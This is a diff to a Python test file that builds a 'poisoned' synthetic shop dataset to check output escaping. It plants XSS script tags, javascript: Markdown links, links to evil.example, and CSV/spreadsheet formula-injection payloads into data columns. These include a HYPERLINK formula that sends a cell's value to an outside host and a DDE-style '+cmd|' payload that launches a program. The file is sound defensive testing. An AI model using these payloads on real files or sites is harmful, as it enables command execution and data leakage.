@@ -27,6 +27,14 @@ def shop_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(scope="session")
+def default_shop_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The documented default shop (30,000 users, seed 42, what ``make data`` writes)."""
+    out = tmp_path_factory.mktemp("default_shop")
+    generate_shop(n_customers=30_000, seed=42, out=out)
+    return out
+
+
+@pytest.fixture(scope="session")
 def _shop_events(shop_dir: Path) -> pd.DataFrame:
     return pd.read_parquet(shop_dir / "events.parquet")
 
@@ -54,13 +62,28 @@ PLANTED = {
     "event": '<script>alert("event")</script>',
 }
 EMAIL_DOMAIN = "@example.com"
+#: Markdown, autolinks and spreadsheet formulas planted in the same run: shown as typed on
+#: every page (never a link, emphasis or table), never at the start of a CSV cell raw.
+#: Column -> (value replaced, payload).
+PLANTED_TEXT = {
+    "channel": ("paid_social", "[ch](javascript:alert(1))"),
+    "category": ("shoes", "**bold** | table | [cat](javascript:alert(2))"),
+    "page_type": ("blog", "see http://evil.example/blog or www.evil.example"),
+    "campaign": ("prospecting", "<http://evil.example/c> `tick` _em_"),
+    "device": ("tablet", '=HYPERLINK("http://x/?"&A1,"u1")'),
+    "variant": (None, "+cmd|' /C calc'!A1"),
+    "product_id": ("P0077", "@SUM(1+1)"),
+    "order_id": ("100002", "-2+3"),
+}
 
 
 def poisoned_shop(shop_dir: Path, out: Path) -> Path:
     """A copy of ``shop_dir`` with markup in names and every user id an e-mail address.
 
     Every user id becomes ``<id>.jane.doe@example.com``; one category, one product, the
-    newsletter campaign and the ``share`` event get ``<script>`` names (:data:`PLANTED`).
+    newsletter campaign and the ``share`` event get ``<script>`` names (:data:`PLANTED`);
+    other names and ids get Markdown, autolinks and spreadsheet formulas
+    (:data:`PLANTED_TEXT`; ``variant`` None: the first variant value).
     Returns the folder (events.parquet and truth.json).
     """
     events = pd.read_parquet(shop_dir / "events.parquet")
@@ -71,6 +94,9 @@ def poisoned_shop(shop_dir: Path, out: Path) -> Path:
     events["product_id"] = events.product_id.replace(top_product, PLANTED["product_id"])
     events["campaign"] = events.campaign.replace("newsletter", PLANTED["campaign"])
     events["event"] = events.event.replace("share", PLANTED["event"])
+    for column, (old, payload) in PLANTED_TEXT.items():
+        old = old if old is not None else sorted(events[column].dropna().unique())[0]
+        events[column] = events[column].replace(old, payload)
     out.mkdir(parents=True, exist_ok=True)
     events.to_parquet(out / "events.parquet", index=False)
     (out / "truth.json").write_bytes((shop_dir / "truth.json").read_bytes())
